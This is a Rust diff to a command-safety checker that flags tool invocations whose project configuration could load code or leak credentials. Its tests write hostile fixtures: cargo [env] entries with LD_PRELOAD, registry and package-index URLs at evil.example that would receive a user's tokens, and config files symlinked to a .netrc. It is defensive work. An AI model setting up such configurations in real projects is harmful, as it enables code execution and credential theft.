@@ -14,7 +14,9 @@ declare_check! {
     /// file in the directory it runs in (or a parent inside the workspace):
     /// - cargo and the other rustup proxies with a `.cargo/config.toml` (or `.cargo/config`)
     ///   naming a program (`build.rustc-wrapper`, `build.rustc`, `build.rustdoc`, a target
-    ///   `runner` or `linker`, a credential provider, an alias of the subcommand, `rustflags`
+    ///   `runner` or `linker`, a credential provider, an alias of the subcommand, an `[env]`
+    ///   entry that changes what rustc runs or loads (`LD_PRELOAD`, `PATH`, `RUSTUP_TOOLCHAIN`:
+    ///   cargo applies `[env]` to the rustc that learns the target), `rustflags`
     ///   loading a library into rustc, `-Z codegen-backend=./x.so`, writing a file,
     ///   `--print=cfg=PATH`, or reading more flags from one, `@FILE`), or a
     ///   `rust-toolchain.toml` with a toolchain `path`;
@@ -60,7 +62,14 @@ declare_check! {
     ///   error quotes it; also in the project the line names (npm's `--prefix DIR` and folder
     ///   specs, `npm view ./pkg`; the directory of cargo's `--manifest-path`, whose `Cargo.lock`
     ///   cargo reads; the directories of the files clang-format, clang-tidy, rustfmt,
-    ///   shellcheck and typos check, where each looks for its configuration);
+    ///   shellcheck, typos, pycodestyle and pydocstyle check, where each looks for its
+    ///   configuration); and DVC's `.dvc/config` (`.dvc/config.local`) linked to one;
+    /// - a checkout that gives a registry or package-source name an address of its own, where
+    ///   the person's credentials are looked up by that name: cargo with `[registries.NAME]
+    ///   index`, `registry.default`, `registry.index` or a `[source.NAME]` registry in
+    ///   `.cargo/config.toml`; `poetry show --outdated`/`--latest` with a
+    ///   `[[tool.poetry.source]]`; `uv pip list --outdated` with a named index
+    ///   (`[[tool.uv.index]]`, `[[index]]` in `uv.toml`);
     /// - codespell with a `.codespellrc`, `setup.cfg` or `pyproject.toml` whose codespell
     ///   section turns on `write-changes` or `interactive` (codespell then rewrites files);
     /// - helm given a chart directory of the checkout (`helm template ./chart`, `helm lint`)
@@ -297,6 +306,9 @@ crate::programs::name_set! {
         "clang-tidy",
         "shellcheck",
         "yamllint",
+        "pycodestyle",
+        "pydocstyle",
+        "dvc",
         "hadolint",
         "black",
         "ruff",
@@ -360,6 +372,24 @@ fn secret_link(dir: &Path, root: &Path, memo: Option<&super::WorkspaceMemo>) -> 
     })
 }
 
+/// A configuration file a project reader reads from a directory of the project below its own
+/// (`.dvc/config`, `.dvc/config.local`: configobj's parse error quotes the line it cannot read)
+/// that is a symbolic link to a secret, in `dir` or a parent inside the workspace. The entries
+/// of the project directories themselves are [`secret_link`]'s.
+fn nested_secret_link(base: &str, dir: &Path, root: &Path) -> Option<PathBuf> {
+    let files: &[&str] = match base {
+        "dvc" => &[".dvc/config", ".dvc/config.local"],
+        _ => return None,
+    };
+    project_dirs(dir, root).find_map(|d| {
+        files.iter().map(|f| d.join(f)).find(|f| {
+            std::fs::symlink_metadata(f).is_ok_and(|m| m.file_type().is_symlink())
+                && std::fs::canonicalize(f)
+                    .is_ok_and(|t| crate::files::is_secret(&t) || crate::files::is_secret_dir(&t))
+        })
+    })
+}
+
 /// The project directories a project reader is moved to by the line, besides the one it runs
 /// in: npm's `--prefix DIR` (`-C DIR`) and the folders its read verbs are given as package specs
 /// (`npm view ./pkg`, `file:../pkg`), whose `package.json` npm reads; the directory of cargo's
@@ -400,8 +430,11 @@ fn moved_project_dirs(base: &str, u: &Unit, dir: &Path, cx: &CheckCtx) -> Vec<Pa
                 }
             }
             // They look for their configuration from each file's directory upward
-            // (`.clang-format`, `.clang-tidy`, `rustfmt.toml`, `.shellcheckrc`, `_typos.toml`).
-            "clang-format" | "clang-tidy" | "rustfmt" | "shellcheck" | "typos"
+            // (`.clang-format`, `.clang-tidy`, `rustfmt.toml`, `.shellcheckrc`, `_typos.toml`;
+            // pycodestyle's and pydocstyle's `setup.cfg` and `tox.ini`, whose INI parse error
+            // quotes the first line that is not INI).
+            "clang-format" | "clang-tidy" | "rustfmt" | "shellcheck" | "typos" | "pycodestyle"
+            | "pydocstyle"
                 if !a.starts_with('-') =>
             {
                 let parent = a
@@ -409,6 +442,21 @@ fn moved_project_dirs(base: &str, u: &Unit, dir: &Path, cx: &CheckCtx) -> Vec<Pa
                     .map(|(d, _)| if d.is_empty() { "/" } else { d });
                 named.push(a);
                 named.extend(parent);
+            }
+            // clang-format looks for the configuration of standard input (or of the files)
+            // from the directory of `--assume-filename` (`-assume-filename=F`; the separate
+            // word is read as a file above).
+            "clang-format" | "clang-tidy" => {
+                if let Some(f) = a
+                    .strip_prefix("--assume-filename=")
+                    .or_else(|| a.strip_prefix("-assume-filename="))
+                {
+                    named.push(f);
+                    named.extend(
+                        f.rsplit_once('/')
+                            .map(|(d, _)| if d.is_empty() { "/" } else { d }),
+                    );
+                }
             }
             _ => {}
         }
@@ -432,6 +480,12 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
     {
         return Some(format!(
             "`{}` is a link to a secret: `{base}` reads the files of the project by name, and would read and may print it",
+            link.display()
+        ));
+    }
+    if let Some(link) = nested_secret_link(base, dir, root) {
+        return Some(format!(
+            "`{}` is a link to a secret: `{base}` reads it as its configuration, and its parse error quotes the line",
             link.display()
         ));
     }
@@ -480,6 +534,12 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
                 {
                     return Some(format!(
                         "`{}` names a program cargo runs (a wrapper, runner, linker, credential provider or alias)",
+                        f.display()
+                    ));
+                }
+                if w.cx.look.is_file(&f) && toml_has(&f, &cargo_config_binds_registry) {
+                    return Some(format!(
+                        "`{}` gives a registry name its index (or makes one the default): cargo sends the person's token for that name to the host the file names",
                         f.display()
                     ));
                 }
@@ -553,6 +613,35 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
     {
         return Some(format!(
             "`{}` names the Python interpreter or environment `{base}` runs to learn about it",
+            f.display()
+        ));
+    }
+    // poetry and uv look a package source's credentials up by the source's name (poetry's
+    // `http-basic.NAME` and keyring entries, `POETRY_HTTP_BASIC_NAME_PASSWORD`; uv's
+    // `UV_INDEX_NAME_PASSWORD`), and the project's configuration gives that name its URL
+    // (`[[tool.poetry.source]]`, `[[tool.uv.index]]`, `[[index]]` in `uv.toml`): a verb that
+    // asks the sources about newer versions sends the person's credentials to the host the
+    // checkout names.
+    if matches!(base, "uv" | "poetry")
+        && queries_sources(base, u)
+        && let Some(f) = project_dirs(dir, root).find_map(|d| {
+            let files: &[(&str, &[&str])] = if base == "uv" {
+                &[
+                    ("uv.toml", &["index"]),
+                    ("pyproject.toml", &["tool", "uv", "index"]),
+                ]
+            } else {
+                &[("pyproject.toml", &["tool", "poetry", "source"])]
+            };
+            files.iter().find_map(|(name, key)| {
+                let f = d.join(name);
+                (w.has(&f) || w.cx.look.is_file(&f) && toml_has(&f, &|t| has_key(t, key)))
+                    .then_some(f)
+            })
+        })
+    {
+        return Some(format!(
+            "`{}` names package sources: `{base}` would send the person's credentials for a source's name to the host the file gives it",
             f.display()
         ));
     }
@@ -1843,6 +1932,25 @@ fn venv_verb(base: &str, u: &Unit) -> bool {
     }
 }
 
+/// A verb of poetry or uv that asks the package sources about newer versions: `poetry show`
+/// with `--outdated`/`--latest` (`-o`, `-l`, also in a bundle), `uv pip list --outdated`.
+fn queries_sources(base: &str, u: &Unit) -> bool {
+    let words = operand_words(u, base);
+    let has = |long: &[&str], short: &[char]| {
+        u.args().map(text).any(|a| {
+            long.contains(&a)
+                || !a.starts_with("--")
+                    && a.strip_prefix('-')
+                        .is_some_and(|b| b.chars().any(|c| short.contains(&c)))
+        })
+    };
+    match (base, &words[..]) {
+        ("poetry", ["show", ..]) => has(&["--outdated", "--latest"], &['o', 'l']),
+        ("uv", ["pip", "list", ..]) => has(&["--outdated"], &[]),
+        _ => false,
+    }
+}
+
 /// `pnpm -v`, `pnpm --version` (and npm's): answered before the configuration is read.
 fn pnpm_version_only(u: &Unit) -> bool {
     let mut args = u.args().map(text);
@@ -2518,6 +2626,28 @@ fn has_key(t: &toml::Table, path: &[&str]) -> bool {
     true
 }
 
+/// Whether a cargo config binds a registry name to an index of its own choosing: a
+/// `[registries.NAME]` table with an `index`, a `[source.NAME]` replacement that is a
+/// `registry`, or `registry.default` / `registry.index`. cargo looks the token up by the name
+/// (`~/.cargo/credentials.toml`, `CARGO_REGISTRIES_NAME_TOKEN`, a credential provider) and
+/// sends it to the index when the index asks for it (`"auth-required": true` in its
+/// `config.json`): `cargo tree`, `cargo metadata` and `cargo search` read the index.
+fn cargo_config_binds_registry(t: &toml::Table) -> bool {
+    let named = |table: &str, key: &str| {
+        t.get(table)
+            .and_then(toml::Value::as_table)
+            .is_some_and(|rs| {
+                rs.values()
+                    .filter_map(toml::Value::as_table)
+                    .any(|r| r.contains_key(key))
+            })
+    };
+    has_key(t, &["registry", "default"])
+        || has_key(t, &["registry", "index"])
+        || named("registries", "index")
+        || named("source", "registry")
+}
+
 /// Whether a cargo config names a program cargo runs for `sub` (the subcommand, if any).
 fn cargo_config_runs(t: &toml::Table, sub: Option<&str>) -> bool {
     let build = [
@@ -2546,7 +2676,14 @@ fn cargo_config_runs(t: &toml::Table, sub: Option<&str>) -> bool {
                     .any(|r| r.contains_key("credential-provider"))
             });
     let alias = sub.is_some_and(|s| has_key(t, &["alias", s]));
-    build || targets || credentials || alias || rustflags_load_code(t)
+    // cargo applies `[env]` to every rustc it starts, the target probe of `cargo metadata` and
+    // `cargo tree` included: `LD_PRELOAD`, `PATH` (with `force`), `RUSTUP_TOOLCHAIN` naming a
+    // directory of the checkout change what that rustc runs.
+    let env = t
+        .get("env")
+        .and_then(toml::Value::as_table)
+        .is_some_and(|e| e.keys().any(|k| super::env_prefix::loads_code(k)));
+    build || targets || credentials || alias || env || rustflags_load_code(t)
 }
 
 /// Whether every rustc flag of a list (a config's `rustflags`, or `RUSTFLAGS`) is one known to
@@ -2778,6 +2915,21 @@ mod tests {
             write(root, ".cargo/config.toml", cfg);
             assert!(flagged(root, "cargo metadata").is_some(), "{cfg}");
         }
+        for cfg in [
+            "[env]\nLD_PRELOAD = { value = \"x.so\", relative = true }\n",
+            "[env]\nPATH = { value = \"bin\", relative = true, force = true }\n",
+            "[env]\nRUSTUP_TOOLCHAIN = { value = \"tc\", relative = true }\n",
+            "[env]\nLD_LIBRARY_PATH = \"/tmp/lib\"\n",
+        ] {
+            write(root, ".cargo/config.toml", cfg);
+            assert!(flagged(root, "cargo metadata").is_some(), "{cfg}");
+        }
+        write(
+            root,
+            ".cargo/config.toml",
+            "[env]\nSQLX_OFFLINE = \"true\"\nRUST_LOG = \"debug\"\nOPENSSL_DIR = \"/usr\"\n",
+        );
+        assert_eq!(flagged(root, "cargo tree"), None);
         write(root, ".cargo/config.toml", "not toml [");
         assert!(flagged(root, "cargo tree").is_some(), "unreadable: flagged");
         std::fs::remove_file(root.join(".cargo/config.toml")).unwrap_or_else(|e| panic!("{e}"));
@@ -2794,6 +2946,106 @@ mod tests {
         );
         assert!(flagged(root, "rustc --version").is_some());
         assert!(flagged(root, "cargo fmt --check").is_some());
+    }
+
+    #[test]
+    fn python_linters_and_dvc_read_project_files_linked_to_secrets() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        let secrets = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let netrc = secrets.path().join(".netrc");
+        std::fs::write(&netrc, "machine x login u password p\n").unwrap_or_else(|e| panic!("{e}"));
+        write(root, "setup.cfg", "[pycodestyle]\nmax-line-length = 99\n");
+        write(root, ".dvc/config", "[core]\nremote = s\n");
+        for cmd in ["pycodestyle .", "pydocstyle src", "dvc status"] {
+            assert_eq!(flagged(root, cmd), None, "{cmd}");
+        }
+        std::fs::remove_file(root.join("setup.cfg")).unwrap_or_else(|e| panic!("{e}"));
+        std::os::unix::fs::symlink(&netrc, root.join("setup.cfg"))
+            .unwrap_or_else(|e| panic!("{e}"));
+        for cmd in ["pycodestyle .", "pydocstyle src", "dvc status"] {
+            assert!(flagged(root, cmd).is_some(), "{cmd}");
+        }
+        std::fs::remove_file(root.join("setup.cfg")).unwrap_or_else(|e| panic!("{e}"));
+        // The configuration of the files' own directories (pycodestyle and pydocstyle look
+        // there), and DVC's `.dvc/config`.
+        write(root, "sub/a.py", "x = 1\n");
+        std::os::unix::fs::symlink(&netrc, root.join("sub/tox.ini"))
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert!(flagged(root, "pycodestyle sub/a.py").is_some());
+        assert_eq!(flagged(root, "dvc status"), None);
+        std::fs::remove_file(root.join(".dvc/config")).unwrap_or_else(|e| panic!("{e}"));
+        std::os::unix::fs::symlink(&netrc, root.join(".dvc/config"))
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert!(flagged(root, "dvc status").is_some());
+        assert!(flagged(root, "dvc dag").is_some());
+    }
+
+    #[test]
+    fn registry_names_bound_by_the_checkout() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        // A vendored source (`directory`) and network settings keep their allow.
+        write(
+            root,
+            ".cargo/config.toml",
+            "[source.crates-io]\nreplace-with = \"vendored\"\n[source.vendored]\ndirectory = \"vendor\"\n[net]\nretry = 2\n",
+        );
+        assert_eq!(flagged(root, "cargo tree"), None);
+        for cfg in [
+            "[registries.internal]\nindex = \"sparse+https://evil.example/\"\n",
+            "[registry]\ndefault = \"internal\"\n",
+            "[registry]\nindex = \"https://evil.example/index\"\n",
+            "[source.crates-io]\nreplace-with = \"internal\"\n[source.internal]\nregistry = \"sparse+https://evil.example/\"\n",
+        ] {
+            write(root, ".cargo/config.toml", cfg);
+            for cmd in [
+                "cargo tree",
+                "cargo metadata",
+                "cargo search serde",
+                "cargo info serde",
+            ] {
+                assert!(flagged(root, cmd).is_some(), "{cmd} with {cfg}");
+            }
+        }
+        std::fs::remove_file(root.join(".cargo/config.toml")).unwrap_or_else(|e| panic!("{e}"));
+        // poetry's sources and uv's named indexes, for the verbs that ask them about versions.
+        write(
+            root,
+            "pyproject.toml",
+            "[tool.poetry]\nname = \"x\"\n[[tool.poetry.source]]\nname = \"internal\"\nurl = \"https://evil.example/simple\"\n",
+        );
+        for cmd in [
+            "poetry show --outdated",
+            "poetry show -o",
+            "poetry show --latest",
+            "poetry show -T -l",
+            "poetry show -lo",
+        ] {
+            assert!(flagged(root, cmd).is_some(), "{cmd}");
+        }
+        for cmd in [
+            "poetry show --tree",
+            "poetry search x",
+            "uv pip list --outdated",
+        ] {
+            assert_eq!(flagged(root, cmd), None, "{cmd}");
+        }
+        write(
+            root,
+            "pyproject.toml",
+            "[project]\nname = \"x\"\n[[tool.uv.index]]\nname = \"internal\"\nurl = \"https://evil.example/simple\"\n",
+        );
+        assert!(flagged(root, "uv pip list --outdated").is_some());
+        assert_eq!(flagged(root, "uv pip list"), None);
+        assert_eq!(flagged(root, "poetry show -o"), None);
+        std::fs::remove_file(root.join("pyproject.toml")).unwrap_or_else(|e| panic!("{e}"));
+        write(
+            root,
+            "uv.toml",
+            "[[index]]\nname = \"internal\"\nurl = \"https://evil.example/simple\"\n",
+        );
+        assert!(flagged(root, "uv pip list --outdated").is_some());
     }
 
     #[test]
@@ -3267,11 +3519,15 @@ mod tests {
             "shellcheck proj/x.sh",
             "typos proj",
             "rustfmt --check proj/src/lib.rs",
+            "clang-format --assume-filename=proj/x.c",
+            "clang-format -assume-filename=proj/x.c --dry-run",
+            "clang-format --assume-filename proj/x.c",
         ] {
             assert!(flagged(root, cmd).is_some(), "{cmd}");
         }
         for cmd in [
             "clang-format --dry-run other/x.c",
+            "clang-format --assume-filename=other/x.c",
             "shellcheck x.sh",
             "typos other",
         ] {
